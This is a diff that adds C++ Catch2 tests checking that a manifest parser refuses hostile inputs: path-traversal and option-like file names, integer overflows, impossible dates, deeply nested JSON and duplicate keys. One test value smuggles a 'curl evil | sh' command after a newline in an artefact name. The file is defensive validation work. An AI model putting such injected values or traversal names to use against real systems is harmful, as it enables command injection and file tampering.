@@ -2,6 +2,9 @@
 
 #include <catch2/catch.hpp>
 
+#include <functional>
+#include <limits>
+
 using namespace airheal;
 using namespace airheal::snapshot;
 using nlohmann::json;
@@ -112,4 +115,69 @@ TEST_CASE("RFC 3339 times parse with Z, offsets and fractions", "[snapshot][form
   CHECK_FALSE(parse_time("2026-11-22 12:00:00"));
   CHECK_FALSE(parse_time("2026-13-01T00:00:00Z"));
   CHECK(format_time(*parse_time("2026-02-03T04:05:06Z")) == "2026-02-03T04:05:06Z");
+}
+
+TEST_CASE("hostile manifest values from the adversarial review are refused", "[snapshot][format][hostile]") {
+  struct Case {
+    const char* what;
+    std::function<void(json&)> change;
+    const char* expect;
+  };
+  auto artifact = [](json& j, json name) {
+    j["artifacts"] = json::array({{{"name", name}, {"digest", "sha256:" + kHex}, {"size", 10}}});
+  };
+  auto package = [](json& j, const char* field, json value) {
+    json p{{"name", "libssl3"}, {"version", "3.0.15-1~deb12u1"}, {"architecture", "amd64"}, {"filename", "libssl3.deb"},
+           {"digest", "sha256:" + kHex}, {"size", 10}};
+    p[field] = value;
+    j["packages"] = json::array({p});
+  };
+  const std::vector<Case> cases = {
+      {"artefact named .", [&](json& j) { artifact(j, "."); }, "must be a plain file name"},
+      {"artefact named ..", [&](json& j) { artifact(j, ".."); }, "must be a plain file name"},
+      {"artefact name with a newline", [&](json& j) { artifact(j, "app\nRUN curl evil | sh"); }, "app\\x0aRUN"},
+      {"artefact name with a carriage return", [&](json& j) { artifact(j, "a\rb"); }, "plain file name"},
+      {"artefact name starting with -", [&](json& j) { artifact(j, "--force"); }, "plain file name"},
+      {"artefact name with a backslash", [&](json& j) { artifact(j, "a\\b"); }, "plain file name"},
+      {"artefact name of 256 bytes", [&](json& j) { artifact(j, std::string(256, 'a')); }, "plain file name"},
+      {"package file name with a slash", [&](json& j) { package(j, "filename", "../x.deb"); }, "without '/'"},
+      {"package name with a newline", [&](json& j) { package(j, "name", "a\nb"); }, "a\\x0ab"},
+      {"sequence 2^63-1", [](json& j) { j["sequence"] = std::numeric_limits<std::int64_t>::max(); }, "sequence must be at most"},
+      {"sequence 2^53", [](json& j) { j["sequence"] = std::int64_t{1} << 53; }, "sequence must be at most"},
+      {"31 February", [](json& j) { j["created"] = "2026-02-31T00:00:00Z"; }, "RFC 3339"},
+      {"29 February of a common year", [](json& j) { j["created"] = "2025-02-29T00:00:00Z"; }, "RFC 3339"},
+      {"31 April", [](json& j) { j["expires"] = "2026-04-31T00:00:00Z"; }, "RFC 3339"},
+      {"offset -99:99", [](json& j) { j["created"] = "2026-11-01T00:00:00-99:99"; }, "RFC 3339"},
+      {"offset +24:00", [](json& j) { j["created"] = "2026-11-01T00:00:00+24:00"; }, "RFC 3339"},
+      {"threshold above the signature limit", [](json& j) { j["trust"] = {{"threshold", 17}}; }, "threshold must be at most"},
+  };
+  for (const auto& c : cases) {
+    SECTION(c.what) {
+      auto j = valid();
+      c.change(j);
+      CHECK_THAT(refusal(j), Catch::Contains(c.expect));
+    }
+  }
+}
+
+TEST_CASE("manifest bytes that attack the parser are refused before they cost anything", "[snapshot][format][hostile]") {
+  // 30 MiB of '[' (before any signature check this used to cost 2.4 GB and 32 s).
+  CHECK_THAT(parse_manifest(std::string(30u << 20, '[')).error().message, Catch::Contains("nests deeper than 8 levels"));
+  CHECK_THAT(parse_manifest(std::string(100000, '[') + std::string(100000, ']')).error().message, Catch::Contains("nests deeper"));
+  // A duplicate key means different things to different readers: refused, not "last one wins".
+  auto text = valid().dump();
+  text.insert(1, "\"sequence\":99,");
+  CHECK_THAT(parse_manifest(text).error().message, Catch::Contains("duplicate key \"sequence\""));
+  CHECK_THAT(parse_manifest(std::string(kMaxManifestBytes + 1, ' ')).error().message, Catch::Contains("larger than"));
+}
+
+TEST_CASE("leap days and valid offsets still parse", "[snapshot][format]") {
+  CHECK(parse_time("2024-02-29T00:00:00Z"));
+  CHECK(parse_time("2000-02-29T00:00:00Z"));
+  CHECK_FALSE(parse_time("1900-02-29T00:00:00Z"));
+  CHECK(*parse_time("2026-11-22T12:00:00-23:59") == *parse_time("2026-11-23T11:59:00Z"));
+  CHECK(is_plain_name("openssl-3.0.15.tar.gz"));
+  CHECK(is_plain_name("libssl3_3.0.15-1~deb12u1_amd64.deb"));
+  CHECK_FALSE(is_plain_name(""));
+  CHECK(human_name("a\nb") == "a\\x0ab");
 }
